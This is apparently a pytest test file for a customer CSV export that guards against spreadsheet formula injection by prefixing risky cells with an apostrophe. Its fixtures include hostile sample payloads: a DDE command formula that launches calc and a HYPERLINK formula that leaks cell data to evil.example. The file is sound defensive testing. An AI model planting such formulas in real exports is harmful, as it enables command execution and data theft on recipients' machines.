from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pytest

from customers.exports import CUSTOMER_CSV_COLUMNS, customers_csv_lines, iter_csv_lines, neutralise_cell
from customers.models import Customer

FORMULAS = ["=1+1", "+41 79 000 00 00", "-2+3", "@SUM(A1:A3)", "\t=cmd", "\r=cmd", '  =HYPERLINK("http://x")']


@pytest.mark.parametrize("text", FORMULAS)
def test_text_starting_with_a_formula_character_gets_an_apostrophe(text: str) -> None:
    assert neutralise_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Jane O'Brien", "Jane O'Brien"),
        ("a=b", "a=b"),
        ("王伟", "王伟"),
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (None, ""),
        (True, "true"),
        (datetime(2026, 1, 2, 3, 4, tzinfo=UTC), "2026-01-02T03:04:00+00:00"),
    ],
)
def test_ordinary_text_and_numbers_are_written_unchanged(value: object, expected: str) -> None:
    assert neutralise_cell(value) == expected


def test_customers_csv_neutralises_every_text_column_and_keeps_the_rest() -> None:
    hostile = Customer(
        external_id="=cmd|' /C calc'!A0",
        name='=HYPERLINK("http://evil.example/?"&A1,"click")',
        email="@attacker.example",
        segment="+vip",
        country="-DE",
        language="zh",
        marketing_consent=True,
        attributes={"note": "=1+1"},
    )
    plain = Customer(external_id="c-2", name="王伟", email="wei@example.com", attributes={"loyalty_tier": "gold"})
    rows = list(csv.DictReader(io.StringIO("".join(customers_csv_lines([hostile, plain])))))

    assert len(rows) == 2
    assert list(rows[0]) == list(CUSTOMER_CSV_COLUMNS)
    for column in ("external_id", "name", "email", "segment", "country"):
        cell = rows[0][column]
        assert cell.startswith("'") and cell[1:] == getattr(hostile, column), column
    assert rows[0]["attributes"] == '{"note": "=1+1"}'  # a JSON object starts with "{": no formula
    assert rows[0]["can_be_contacted"] == "true"
    assert rows[1]["name"] == "王伟" and rows[1]["external_id"] == "c-2"


def test_generic_lines_neutralise_rows_of_any_model() -> None:
    lines = iter_csv_lines(
        header=["external_id", "amount", "status"],
        rows=[["o-1", Decimal("-5.00"), "returned"], ["-o-2", Decimal("9.99"), "@completed"]],
    )

    rows = list(csv.reader(io.StringIO("".join(lines))))
    assert rows == [["external_id", "amount", "status"], ["o-1", "-5.00", "returned"], ["'-o-2", "9.99", "'@completed"]]


def test_lines_are_yielded_one_row_at_a_time_as_the_rows_are_read() -> None:
    def rows():  # noqa: ANN202
        yield ["=a", "b"]
        raise AssertionError("the second row was read before the first line was sent")

    lines = iter_csv_lines(header=["x", "y"], rows=rows())

    assert next(lines) == "x,y\r\n"
    assert next(lines) == "'=a,b\r\n"
